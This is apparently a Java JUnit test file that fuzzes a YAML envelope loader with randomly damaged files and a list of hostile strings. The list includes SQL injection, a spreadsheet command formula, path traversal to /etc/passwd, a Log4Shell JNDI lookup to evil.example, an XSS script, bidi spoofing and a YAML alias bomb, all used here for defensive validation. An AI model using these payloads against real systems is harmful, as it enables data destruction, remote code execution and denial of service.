package org.envelopereview.envelope;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.envelopereview.envelope.EnvelopeDirectoryFixture.BOARDS;
import static org.envelopereview.envelope.EnvelopeDirectoryFixture.ENVELOPE;

/**
 * Property-style tests of envelope loading against random, truncated and hostile files
 * (seeded, counts printed for SECURITY.md): loading never throws, every file is either
 * valid or reported with its name, and no text that reaches the pack carries a control or
 * bidirectional-override character.
 */
class HostileEnvelopeInputTests {

	private static final int CASES = 500;

	private static final Map<String, Integer> TRIED = new TreeMap<>();

	private static final List<String> HOSTILE = List.of("'; DROP TABLE review_finding; --", "=cmd|' /C calc'!A0",
			"../../etc/passwd", "\\u202Egnp.exe", "\\u2066isolate\\u2069", "nul\\0byte", "esc\\e[31m", "bell\\a",
			"\\x85next", "שלום", "مرحبا", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "\\uFEFFbom");

	@TempDir
	Path directory;

	@AfterAll
	static void printCounts() {
		TRIED.forEach((property, count) -> System.out.println("HOSTILE-INPUT " + property + ": " + count + " inputs"));
	}

	@Test
	void shouldReportEveryRandomlyDamagedEnvelopeFileByNameAndNeverThrow() throws Exception {
		Random random = new Random(20260710L);
		byte[] valid = ENVELOPE.getBytes(StandardCharsets.UTF_8);
		int rejected = 0;
		for (int i = 0; i < CASES; i++) {
			byte[] damaged = damage(random, valid);
			Path dir = Files.createDirectories(this.directory.resolve("case-" + i));
			Files.writeString(dir.resolve(EnvelopeLoader.BOARDS_FILE), BOARDS);
			Files.write(dir.resolve("pa-test-001.yaml"), damaged);
			EnvelopeLoader loader = new EnvelopeLoader();
			EnvelopeCatalog[] catalog = new EnvelopeCatalog[1];
			assertThatCode(() -> catalog[0] = loader.load(dir)).as("case %d", i).doesNotThrowAnyException();
			EnvelopeFile file = catalog[0].files()
				.stream()
				.filter((f) -> f.fileName().endsWith("pa-test-001.yaml"))
				.findFirst()
				.orElse(null);
			assertThat(file).as("case %d: the file is in the catalog", i).isNotNull();
			List<EnvelopeProblem> problems = catalog[0].problemsOf(file);
			if (file.valid()) {
				assertThat(problems).as("case %d", i).isEmpty();
				assertThat(catalog[0].envelopes()).as("case %d", i).hasSize(1);
				assertCleanText(catalog[0].envelopes().get(0), "case " + i);
			}
			else {
				rejected++;
				long lines = new String(damaged, StandardCharsets.UTF_8).lines().count();
				assertThat(problems).as("case %d", i)
					.isNotEmpty()
					.allSatisfy((problem) -> assertThat(problem.file()).endsWith("pa-test-001.yaml"))
					.allSatisfy((problem) -> assertThat(problem.line()).isBetween(0, (int) lines + 2))
					.allSatisfy((problem) -> assertThat(problem.message()).isNotBlank());
			}
		}
		TRIED.merge("envelope files randomly damaged", CASES, Integer::sum);
		TRIED.merge("envelope files randomly damaged (rejected)", rejected, Integer::sum);
	}

	@Test
	void shouldRejectHostileTextThatWouldReachThePackOrKeepItExactly() throws Exception {
		Random random = new Random(20260711L);
		int rejected = 0;
		for (int i = 0; i < CASES; i++) {
			String field = List.of("title", "owner").get(random.nextInt(2));
			String hostile = HOSTILE.get(random.nextInt(HOSTILE.size())) + " #" + i;
			String envelope = ENVELOPE.replaceFirst("(?m)^" + field + ": .*$",
					java.util.regex.Matcher.quoteReplacement(field + ": \"" + hostile + "\""));
			Path dir = Files.createDirectories(this.directory.resolve("text-" + i));
			Files.writeString(dir.resolve(EnvelopeLoader.BOARDS_FILE), BOARDS);
			Files.writeString(dir.resolve("pa-test-001.yaml"), envelope);

			EnvelopeCatalog catalog = new EnvelopeLoader().load(dir);

			if (catalog.envelopes().isEmpty()) {
				rejected++;
				assertThat(catalog.problems()).as("text %d: %s", i, hostile)
					.anySatisfy((problem) -> assertThat(problem.field()).isEqualTo(field));
			}
			else {
				Envelope loaded = catalog.envelopes().get(0);
				assertCleanText(loaded, "text " + i);
				assertThat(field.equals("title") ? loaded.title() : loaded.owner()).contains("#" + i);
			}
		}
		TRIED.merge("envelope hostile title/owner", CASES, Integer::sum);
		TRIED.merge("envelope hostile title/owner (rejected)", rejected, Integer::sum);
	}

	@Test
	void shouldRejectABidiOverrideInATitleButAcceptRightToLeftScript() throws Exception {
		Path dir = Files.createDirectories(this.directory.resolve("bidi"));
		Files.writeString(dir.resolve(EnvelopeLoader.BOARDS_FILE), BOARDS);
		Files.writeString(dir.resolve("pa-test-001.yaml"),
				ENVELOPE.replace("title: Test envelope", "title: \"Harmless \\u202Eevil\""));
		Files.writeString(dir.resolve("pa-test-002.yaml"), ENVELOPE.replace("PA-TEST-001", "PA-TEST-002")
			.replace("title: Test envelope", "title: \"שער תשלומים — payments gateway\""));

		EnvelopeCatalog catalog = new EnvelopeLoader().load(dir);

		assertThat(catalog.problems()).singleElement()
			.satisfies((problem) -> assertThat(problem.toString()).endsWith(
					"pa-test-001.yaml:3: title: holds the bidirectional control character U+202E at position 10"));
		assertThat(catalog.envelopes()).singleElement()
			.satisfies((envelope) -> assertThat(envelope.title()).isEqualTo("שער תשלומים — payments gateway"));
	}

	private static void assertCleanText(Envelope envelope, String description) {
		for (String text : List.of(envelope.title(), envelope.owner(), envelope.id(), envelope.boardId())) {
			assertThat(text.codePoints()
				.noneMatch((c) -> (c < 0x20 && c != '\t' && c != '\n' && c != '\r') || (c >= 0x7f && c <= 0x9f)
						|| (c >= 0x202A && c <= 0x202E) || (c >= 0x2066 && c <= 0x2069)))
				.as("%s: '%s'", description, text)
				.isTrue();
		}
	}

	/**
	 * One random injury: truncation, random bytes, a deleted or repeated line, a bomb.
	 */
	private static byte[] damage(Random random, byte[] valid) {
		String text = new String(valid, StandardCharsets.UTF_8);
		List<String> lines = new ArrayList<>(text.lines().toList());
		switch (random.nextInt(7)) {
			case 0:
				return Arrays.copyOf(valid, random.nextInt(valid.length));
			case 1: {
				byte[] noise = new byte[1 + random.nextInt(16)];
				random.nextBytes(noise);
				int at = random.nextInt(valid.length);
				byte[] damaged = new byte[valid.length + noise.length];
				System.arraycopy(valid, 0, damaged, 0, at);
				System.arraycopy(noise, 0, damaged, at, noise.length);
				System.arraycopy(valid, at, damaged, at + noise.length, valid.length - at);
				return damaged;
			}
			case 2:
				lines.remove(random.nextInt(lines.size()));
				break;
			case 3: {
				int at = random.nextInt(lines.size());
				lines.add(at, lines.get(at));
				break;
			}
			case 4: {
				int width = 2 + random.nextInt(9);
				int depth = 2 + random.nextInt(12);
				StringBuilder bomb = new StringBuilder("x0: &x0 [a]\n");
				for (int level = 1; level < depth; level++) {
					bomb.append("x").append(level).append(": &x").append(level).append(" [");
					bomb.append(String.join(", ", java.util.Collections.nCopies(width, "*x" + (level - 1))))
						.append("]\n");
				}
				lines.add(bomb.toString());
				break;
			}
			case 5: {
				int at = random.nextInt(lines.size());
				lines.set(at, lines.get(at).replaceFirst(": .*$", ": " + "[".repeat(1 + random.nextInt(200))));
				break;
			}
			default: {
				int at = random.nextInt(lines.size());
				String line = lines.get(at);
				int cut = random.nextInt(line.length() + 1);
				lines.set(at, line.substring(0, cut) + "\u0000\u202E" + line.substring(cut));
			}
		}
		return String.join("\n", lines).getBytes(StandardCharsets.UTF_8);
	}

}
